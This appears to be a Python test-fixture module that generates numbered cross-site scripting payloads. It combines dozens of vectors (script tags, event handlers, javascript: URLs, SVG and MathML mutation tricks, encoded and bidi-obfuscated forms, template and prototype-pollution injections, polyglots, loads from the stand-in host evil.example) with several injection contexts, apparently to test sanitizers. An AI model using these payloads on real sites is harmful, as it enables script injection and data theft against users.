"""Texts that want to be more than text: vectors in the contexts that a page might put them into.

Each runs `evil(n)` with a number of its own, asks `evil.example` for something that has that
number in its name, or opens a dialog, should any page take it for markup, script, style or URL.
"""

from itertools import count, product

# What runs, by the way in which it is led to.
VECTORS = (
    "<script>evil({n})</script>",
    "<script src=//evil.example/{n}.js></script>",
    "<ScRiPt>evil({n})</sCrIpT >",
    "<scr<script>ipt>evil({n})</scr</script>ipt>",
    "<script/x>evil({n})</script\t\n>",
    "<script type=module>evil({n})</script>",
    "<img src=x onerror=evil({n})>",
    "<img src=x onerror=evil&#40;{n}&#41;>",
    "<img/src/onerror=alert({n})>",
    "<img src=`x` onerror=evil(`{n}`)>",
    '<img """><script>evil({n})</script>">',
    "<image href=x onerror=evil({n})>",
    "<img srcset=//evil.example/{n}.png>",
    "<svg onload=evil({n})>",
    "<svg><script>evil({n})</script></svg>",
    "<svg><animate onbegin=evil({n}) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:evil({n})><text y=20>tap</text></a>",
    "<svg><use href=//evil.example/{n}.svg#x>",
    "<svg><set attributeName=onmouseover to=evil({n})>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.evil({n})</script>'></foreignObject>",
    "<math><mtext><table><mglyph><style><img src=x onerror=evil({n})>",
    "<math href=javascript:evil({n})>tap</math>",
    "<iframe srcdoc='<script>parent.evil({n})</script>'></iframe>",
    "<iframe src=javascript:parent.evil({n})></iframe>",
    "<iframe src=//evil.example/{n}></iframe>",
    "<object data=javascript:evil({n})></object>",
    "<embed src=//evil.example/{n}.swf>",
    "<a href=javascript:evil({n})>tap</a>",
    "<a href='java&#10;script:evil({n})'>tap</a>",
    "<a href=data:text/html,<script>opener.evil({n})</script>>tap</a>",
    "<form action=javascript:evil({n})><button>tap</button></form>",
    "<button formaction=javascript:evil({n}) autofocus>tap</button>",
    "<input autofocus onfocus=evil({n})>",
    "<select autofocus onfocus=evil({n})>",
    "<details open ontoggle=evil({n})>",
    "<video><source onerror=evil({n})></video>",
    "<audio src=x onerror=evil({n})>",
    "<body onload=evil({n})>",
    "<marquee onstart=evil({n})>",
    "<dialog open onclose=evil({n})><form method=dialog><button>x</button></form></dialog>",
    "<div popover id=p onbeforetoggle=evil({n})>p</div><button popovertarget=p>tap</button>",
    "<p style=animation-name:rise onanimationstart=evil({n})>",
    "<x contenteditable onblur=evil({n}) tabindex=1 id=x></x>",
    "<style>@import '//evil.example/{n}.css'</style>",
    "<style>*{{background:url(//evil.example/{n}.png)}}</style>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<link rel=prefetch href=//evil.example/{n}>",
    "<base href=//evil.example/{n}/>",
    "<meta http-equiv=refresh content='0;url=javascript:evil({n})'>",
    "<template><img src=x onerror=evil({n})></template>",
    "<template shadowrootmode=open><script>evil({n})</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=evil({n})>'>",
    "<listing>&lt;img src=x onerror=evil({n})&gt;</listing>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style>"
    "<img src=x onerror=evil({n})>'>",
    "<svg></p><style><a id='</style><img src=x onerror=evil({n})>'>",
    "<!--><img src=x onerror=evil({n})>-->",
    "<![CDATA[><img src=x onerror=evil({n})>]]>",
    "<?xml-stylesheet href=javascript:evil({n})?>",
    "&lt;img src=x onerror=evil({n})&gt;",
    "&#x3c;script&#x3e;evil({n})&#x3c;/script&#x3e;",
    "\\u003cscript\\u003eevil({n})\\u003c/script\\u003e",
    "%3Cscript%3Eevil({n})%3C/script%3E",
    "+ADw-script+AD4-evil({n})+ADw-/script+AD4-",
    "\uff1cscript\uff1eevil({n})\uff1c/script\uff1e",
    "\u202e>tpircs/<({n})live>tpircs<\u202c",
    "\u2066<img src=x onerror=evil({n})>\u2069",
    "<img src=x onerror=\u2028evil({n})\u2029>",
    "<\u200bscript>evil({n})</\u200bscript>",
    "javascript:evil({n})",
    "JaVaScRiPt://%0aevil({n})",
    "\tjava\nscript:evil({n})",
    "data:text/html,<script>evil({n})</script>",
    "vbscript:evil({n})",
    "//evil.example/{n}",
    "https://evil.example/{n}",
    "${{evil({n})}}",
    "{{{{constructor.constructor('evil({n})')()}}}}",
    "{{n}}{{text}}{{name}} #{{evil({n})}}",
    "<%= evil({n}) %>",
    "__proto__[x]=evil({n})",
    '{{"__proto__":{{"n":{n}}},"kind":"said"}}',
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=evil({n}) )//%0D%0A%0d%0a//"
    "</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=evil({n})//>\\x3e",
    '\'">><marquee><img src=x onerror=confirm({n})></marquee>"></plaintext\\></|\\>'
    "<plaintext/onmouseover=prompt({n})>",
)
# Where it might land: between tags, in an attribute of either quote, in a script's string.
CONTEXTS = ("{}", '">{}', "' onpointerover=evil({n}) x='{}", "</title></textarea></style>{}")
MOST = 500  # characters, as a line has


def _made():
    number = count(1)
    for context, vector in product(CONTEXTS, VECTORS):
        n = next(number)
        yield context.replace("{n}", str(n)).replace("{}", vector.format(n=n))


PAYLOADS = tuple(_made())
